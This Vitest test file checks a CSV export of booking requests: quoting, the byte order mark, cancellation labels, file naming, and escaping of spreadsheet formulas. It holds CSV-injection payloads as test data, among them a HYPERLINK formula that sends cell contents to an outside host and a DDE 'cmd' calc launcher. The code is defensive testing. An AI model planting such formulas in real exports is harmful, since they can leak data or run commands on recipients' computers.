import { nameRequestsFile, toRequestsCsv } from '@callwright/shared/booking/requests-csv.ts';
import { describe, expect, it } from 'vitest';
import { sampleRequest } from './sample-request.ts';

/** Parses like a spreadsheet (RFC 4180). */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  for (const [, quoted = '', end = ''] of text.matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)) {
    row.push(quoted.replaceAll('""', '"'));
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

const cellsOf = (changes: Parameters<typeof sampleRequest>[0]) => readCsv(toRequestsCsv([sampleRequest(changes)]))[1];

describe('the CSV file of demo requests', () => {
  it('has a header row, a row per request, and a byte order mark for Excel', () => {
    const text = toRequestsCsv([sampleRequest(), sampleRequest({ name: 'José Núñez' })]);
    expect(text.startsWith('\uFEFF"Starts (UTC)","Status","Name"')).toBe(true);
    const [head, first, second, ...rest] = readCsv(text);
    expect(rest).toEqual([]);
    expect(head).toHaveLength(11);
    expect(first).toEqual([
      '2026-11-24 14:00',
      'Booked',
      'Ann Reed',
      'Reed Plumbing',
      'Plumbing',
      '(555) 010-7788',
      'ann@reed.example',
      '',
      'America/New_York',
      '2026-11-22 09:30',
      '2026-11-22 09:30',
    ]);
    expect(second?.[2]).toBe('José Núñez');
  });

  it('keeps quotes, commas, and line breaks of a note in one cell', () => {
    const note = 'Two trucks, "24/7",\r\nand a dog\nin the yard';
    expect(cellsOf({ note })?.[7]).toBe(note);
    expect(cellsOf({ note })).toHaveLength(11);
  });

  it.each([
    '=HYPERLINK("https://elsewhere.example?"&A1,"Ann")',
    '+1 555 010 7788',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1)',
    '  =1+1',
    '\u200B=1+1',
    '\u00A0@x',
    '\r\nText',
    '＝1+1',
    '＋1',
  ])('shows a possible formula as text: %j', (text) => {
    expect(cellsOf({ note: text })?.[7]).toBe(`'${text}`);
    expect(cellsOf({ name: text })?.[2]).toBe(`'${text}`);
  });

  it.each([
    ['Two trucks;=HYPERLINK("https://elsewhere.example")', `Two trucks;'=HYPERLINK("https://elsewhere.example")`],
    ['Two trucks;  @SUM(1)', "Two trucks;'  @SUM(1)"],
    ['Two trucks,\r\n=1+1', "Two trucks,\r\n'=1+1"],
    ['\t=1', "'\t'=1"],
    ['a|=1', "a|'=1"],
  ])('keeps %j text for programs with another separator, like Excel in Europe', (note, shown) => {
    expect(cellsOf({ note })?.[7]).toBe(shown);
  });

  it('doesn’t change text that only contains such a character', () => {
    for (const note of ['a=b', 'Ann + Bob', 'call 9-5', 'ann@reed.example']) expect(cellsOf({ note })?.[7]).toBe(note);
  });

  it('shows who canceled', () => {
    expect(cellsOf({ status: 'cancelled', cancelledBy: 'visitor' })?.[1]).toBe('Canceled by the visitor');
    expect(cellsOf({ status: 'cancelled', cancelledBy: 'owner' })?.[1]).toBe('Canceled by you');
  });

  it('is named after the day', () => {
    expect(nameRequestsFile(Date.UTC(2026, 10, 22, 23))).toBe('demo-requests-2026-11-22.csv');
  });
});
